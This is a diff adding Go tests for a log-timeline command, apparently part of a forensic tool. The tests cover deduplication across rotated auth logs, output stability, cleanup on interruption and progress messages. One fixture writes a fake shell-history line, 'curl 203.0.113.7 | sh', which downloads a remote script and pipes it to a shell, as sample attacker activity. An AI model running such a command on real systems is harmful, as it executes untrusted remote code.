@@ -1,0 +1,130 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"spor/cmd/internal/cli"
+)
+
+// logs writes a log, an archived one that begins with the same lines, and one of another kind.
+func logs(t *testing.T) (files []string) {
+	t.Helper()
+	dir := t.TempDir()
+	var auth strings.Builder
+	for range 50 {
+		auth.WriteString("2026-03-04T05:06:07.123456+01:00 web01 sshd[88]: Failed password for root from 203.0.113.7 port 4022 ssh2\n")
+		auth.WriteString("2026-03-04T05:06:08.000001+01:00 web01 sshd[88]: Disconnected from 203.0.113.7\n")
+	}
+	for name, text := range map[string]string{"auth.log.1": auth.String()[:auth.Len()/2], "auth.log": auth.String(), "zsh/.zsh_history": ": 1772600767:0;curl 203.0.113.7 | sh\n"} {
+		file := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		files = append(files, file)
+	}
+	slices.Sort(files)
+	return files
+}
+
+func timelineOf(t *testing.T, inputs ...string) []byte {
+	t.Helper()
+	out := filepath.Join(t.TempDir(), "t.jsonl")
+	var said bytes.Buffer
+	code := run(t.Context(), append([]string{"timeline", "--out", out}, inputs...), cli.Streams{Out: &said, Err: &said})
+	if code != cli.OK {
+		t.Fatalf("%v: exit code %d: %s", inputs, code, said.String())
+	}
+	b, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// TestTimelineIsTheSame asks for the same bytes of the same inputs, twice and in another order, the records of both logs once.
+func TestTimelineIsTheSame(t *testing.T) {
+	files := logs(t)
+	want := timelineOf(t, files...)
+	if lines := bytes.Count(want, []byte("\n")); lines != 101 {
+		t.Errorf("%d events of 101 records, the half of them in two files", lines)
+	}
+	if n := bytes.Count(want, []byte(`"also_in":["`+files[1]+`"]`)); n != 50 {
+		t.Errorf("%d events name the second file that has them, want 50", n)
+	}
+	slices.Reverse(files)
+	for _, inputs := range [][]string{files, {files[1], files[2], files[0]}} {
+		if got := timelineOf(t, inputs...); !bytes.Equal(got, want) {
+			t.Errorf("inputs %v: other bytes:\n%s\nwant\n%s", inputs, got, want)
+		}
+	}
+}
+
+func TestTimelineInterrupted(t *testing.T) {
+	files := logs(t)
+	ctx, cancel := context.WithCancelCause(t.Context())
+	cancel(cli.ErrInterrupted)
+	out := filepath.Join(t.TempDir(), "t.jsonl")
+	var said bytes.Buffer
+	if code := run(ctx, append([]string{"timeline", "--out", out}, files...), cli.Streams{Out: &said, Err: &said}); code != cli.Interrupted {
+		t.Errorf("exit code %d: %s", code, said.String())
+	}
+	if left, err := os.ReadDir(filepath.Dir(out)); err != nil || len(left) > 0 {
+		t.Errorf("left behind: %v, %v", left, err)
+	}
+}
+
+// TestCreate keeps what stood there before until what replaces it is whole.
+func TestCreate(t *testing.T) {
+	name := filepath.Join(t.TempDir(), "t.jsonl")
+	if err := os.WriteFile(name, []byte("old"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, whole := range []bool{false, true} {
+		w, done, err := create(name, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = w.Write([]byte("new"))
+		if err = errors.Join(err, done(whole)); err != nil {
+			t.Fatal(err)
+		}
+		got, err := os.ReadFile(name)
+		if want := map[bool]string{false: "old", true: "new"}[whole]; err != nil || string(got) != want {
+			t.Errorf("whole %v: %q, %v, want %q", whole, got, err, want)
+		}
+	}
+	if left, err := filepath.Glob(name + "*"); err != nil || len(left) != 1 {
+		t.Errorf("left: %v, %v", left, err)
+	}
+}
+
+func TestProgressLine(t *testing.T) {
+	began := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+	for _, tt := range []struct {
+		done, total int64
+		took        time.Duration
+		want        string
+	}{
+		{5 << 20, 0, time.Minute, "read 5 MiB"},
+		{0, 10 << 20, time.Minute, "read 0 B of 10 MiB, 0 %"},
+		{5 << 20, 20 << 20, time.Minute, "read 5 MiB of 20 MiB, 25 %, about 3m0s left"},
+		{5 << 20, 20 << 20, time.Second, "read 5 MiB of 20 MiB, 25 %"},
+		{30 << 20, 20 << 20, time.Minute, "read 30 MiB of 20 MiB, 100 %, about 0s left"},
+	} {
+		p := progress{what: "read", unit: cli.Bytes, done: tt.done, total: tt.total, began: began}
+		if got := p.line(began.Add(tt.took)); got != tt.want {
+			t.Errorf("%+v: got %q, want %q", tt, got, tt.want)
+		}
+	}
+}
